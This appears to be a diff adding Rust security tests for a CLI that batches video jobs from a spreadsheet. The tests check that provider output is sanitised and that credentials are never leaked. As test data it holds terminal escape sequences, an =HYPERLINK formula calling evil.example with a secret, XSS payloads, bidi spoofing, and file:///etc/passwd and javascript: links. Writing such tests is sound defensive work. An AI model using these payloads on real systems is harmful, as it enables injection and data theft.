@@ -1,0 +1,172 @@
+//! Hostile texts and links from the provider.
+
+use std::fmt::Write as _;
+
+use callsheet::sandbox::{Faults, FileFault, When};
+
+use crate::program::{KEYS, PERSONA, Scenario, contains};
+
+/// A scenario whose texts contain these directives for the sandbox.
+fn with_directives(directives: &[&str]) -> Scenario {
+    let mut sheet = String::from("id,text,persona,aspect_ratio\n");
+    for (number, directive) in directives.iter().enumerate() {
+        let directive = directive.replace('"', "\"\"");
+        writeln!(sheet, "job-{number},\"Hello {directive}\",{PERSONA},9:16").unwrap();
+    }
+    Scenario::with_text(&sheet)
+}
+
+/// Whether a text has neither control characters nor characters that change the writing direction.
+fn is_harmless(text: &str) -> bool {
+    text.chars().all(|c| {
+        let changes_direction = matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+        !changes_direction && (c == '\n' || !c.is_control())
+    })
+}
+
+#[test]
+fn hostile_texts_are_harmless_in_terminal_spreadsheet_and_page() {
+    let scenario = with_directives(&[
+        r"[fail: \u001b[31mred \u001b\u005d0;owned\u0007 \r\nhint: lie]",
+        r#"[reject: =HYPERLINK(\"http://evil.example/?q=a&Signature=s3cr3t\")]"#,
+        r"[fail: <script>alert(1)</script></script><img src=x onerror=alert(2)>]",
+        r"[fail: \u202egnp.exe \u2066 \u0000 \u009b31m]",
+        r"[status: \u001b[2J=cmd()]",
+    ]);
+    let run = scenario.run_sheet(&["-v"]).expect_code(3);
+    let mut printed = vec![run.stdout, run.stderr];
+    let ids = ["job-0", "job-1", "job-2", "job-3", "job-4"];
+    let why = ids.map(|id| vec!["why", "sheet.csv", id]);
+    let status = ["status", "sheet.csv", "--json"];
+    for command in why
+        .iter()
+        .map(|why| &why[..])
+        .chain([&status[..2], &status])
+    {
+        printed.push(scenario.run(command).expect_code(0).stdout);
+    }
+    for text in &printed {
+        assert!(is_harmless(text), "{text:?}");
+    }
+    let results = scenario.results();
+    assert_eq!(results.len(), 5);
+    for row in &results {
+        for column in ["status", "error", "video_url", "remote_id"] {
+            let cell = &row[column];
+            let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+            assert!(is_harmless(cell) && !is_formula, "{cell:?}");
+        }
+    }
+    assert!(results[0]["error"].contains("red"), "{results:?}");
+    assert!(results[1]["error"].contains("HYPERLINK"), "{results:?}");
+
+    let page = scenario.read("sheet-output/report.html");
+    assert!(!page.contains("<script>alert"), "{page}");
+    assert!(!page.contains("<img src=x"), "{page}");
+    let json = scenario.read_json("sheet-output/results.json");
+    for job in json["jobs"].as_array().unwrap() {
+        let error = job["error"].as_str().unwrap_or_default();
+        assert!(is_harmless(error), "{job:#}");
+    }
+    // The signature in these words is redacted. It remains in the sheet's own text, which the results repeat.
+    for (path, content) in scenario.everything() {
+        let mut parts = path.components();
+        let is_journal = parts.any(|part| part.as_os_str() == ".callsheet");
+        if is_journal || path.ends_with("sheet.csv") {
+            continue;
+        }
+        let count = String::from_utf8_lossy(&content).matches("s3cr3t").count();
+        assert!(count <= 2, "{}: {count}", path.display());
+    }
+}
+
+#[test]
+fn invalid_links_are_refused_and_the_job_stays_collectable() {
+    let scenario = with_directives(&[
+        "[output: file:///etc/passwd]",
+        "[output: ftp://files.example/v.mp4]",
+        "[output: javascript:alert(1)]",
+        "[output: https://user:word@files.example/v.mp4]",
+        "[output: data:video/mp4;base64,AAAA]",
+        "[output: nonsense]",
+    ]);
+    let left = scenario.run_sheet(&[]).expect_code(8);
+    left.expect_stderr(&["collect"]);
+    for row in scenario.results() {
+        assert_eq!(row["status"], "downloading", "{row:?}");
+        assert!(!row["error"].is_empty(), "{row:?}");
+    }
+    let videos = std::fs::read_dir(scenario.path("sheet-output/videos"));
+    assert_eq!(videos.map_or(0, Iterator::count), 0);
+    assert_eq!(scenario.accepted(), 6);
+    // A later attempt is refused too, and pays for nothing.
+    scenario.collect_sheet(&[]).expect_code(8);
+    assert_eq!(scenario.accepted(), 6);
+    let page = scenario.read("sheet-output/report.html");
+    for link in ["href=\"javascript:", "src=\"file:"] {
+        assert!(!page.contains(link), "{page}");
+    }
+}
+
+#[test]
+fn a_file_larger_than_any_video_is_refused_before_it_fills_the_disk() {
+    let faults = Faults {
+        files: [(FileFault::TooLong, When::always().amount(10_000_000_000))].into(),
+        ..Faults::default()
+    };
+    let scenario = Scenario::with_faults(1, faults);
+    let left = scenario.run_sheet(&[]).expect_code(8);
+    left.expect_stderr(&["collect"]);
+    let error = &scenario.results()[0]["error"];
+    assert!(error.contains("over the limit"), "{error}");
+    assert!(!scenario.exists("sheet-output/videos/job-01.mp4.part"));
+}
+
+#[test]
+fn credentials_and_signatures_are_in_no_file_that_is_shared() {
+    let faults = Faults {
+        // Links that can expire are signed.
+        files: [(FileFault::Expires, When::always().amount(60_000))].into(),
+        ..Faults::default()
+    };
+    let scenario = Scenario::with_faults(3, faults);
+    let run = scenario.run_sheet(&["-v", "--log-format", "json"]);
+    let run = run.expect_code(0);
+    let mut shared = vec![("stderr".to_owned(), run.stderr.into_bytes())];
+    for (path, content) in scenario.everything() {
+        let place = path.display().to_string();
+        assert!(!KEYS.iter().any(|key| contains(&content, key)), "{place}");
+        let name = path.file_name().unwrap().to_string_lossy();
+        if !name.starts_with("journal.sqlite") {
+            shared.push((place, content));
+        }
+    }
+    let journal = callsheet::journal::JournalSnapshot::read(&scenario.path("sheet-output"));
+    let journal = serde_json::to_string(&journal.unwrap().unwrap().entries).unwrap();
+    let (_, query) = journal.split_once(".mp4?").unwrap();
+    let signature = query.split(['"', '&']).next().unwrap();
+    assert!(signature.len() > 5, "{signature}");
+    for (place, content) in shared {
+        assert!(!contains(&content, signature), "{place}");
+    }
+}
+
+#[test]
+fn debug_output_does_not_contain_credentials() {
+    use callsheet::model::Credentials;
+    use callsheet::remote::{Remote, Settings};
+
+    let credentials = || Credentials::new(KEYS[0].to_owned(), KEYS[1].to_owned());
+    let settings = || {
+        let address = "https://api.example".parse().unwrap();
+        Settings::new(address, credentials(), "out".into())
+    };
+    let remote = Remote::new(settings()).unwrap();
+    for text in [
+        format!("{:?} {:#?}", credentials(), credentials()),
+        format!("{:?} {:#?}", settings(), settings()),
+        format!("{remote:?} {remote:#?}"),
+    ] {
+        assert!(!KEYS.iter().any(|key| text.contains(key)), "{text}");
+    }
+}
